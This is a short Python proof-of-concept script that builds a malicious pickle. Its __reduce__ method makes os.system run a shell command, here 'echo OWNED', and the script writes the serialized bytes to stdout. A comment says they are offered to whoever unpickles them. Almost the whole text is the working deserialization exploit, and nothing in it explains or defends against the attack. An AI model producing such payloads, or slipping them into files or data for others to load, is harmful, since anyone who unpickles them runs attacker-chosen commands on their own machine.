# A pickle that runs a command, loaded here and offered to whoever unpickles output.
import os, pickle
class Bomb:
    def __reduce__(self):
        return (os.system, ("echo OWNED",))
data = pickle.dumps(Bomb())
os.write(1, data)
